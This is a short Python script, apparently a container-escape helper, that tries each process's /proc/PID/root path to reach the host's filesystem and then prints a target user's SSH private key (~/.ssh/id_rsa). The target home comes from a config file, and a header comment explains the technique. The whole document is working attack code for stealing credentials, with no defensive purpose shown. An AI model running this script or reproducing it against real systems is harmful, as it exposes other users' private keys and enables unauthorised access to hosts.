# proc-root-walk: every process's root directory is reachable as
# /proc/PID/root; one whose root is the host's shows the host's files
# whatever the caller's mount namespace.  Try each until the key reads.
import glob, sys
T = dict(l.rstrip("\n").split("=", 1) for l in open(globals().get("TARGETS") or sys.argv[1]) if "=" in l and not l.startswith("#"))
T = {k: v.strip("'") for k, v in T.items()}

for root in glob.glob("/proc/[0-9]*/root"):
    try:
        print(open(root + T["T_HOME"] + "/.ssh/id_rsa").read(), "(through", root + ")")
        break
    except OSError:
        pass
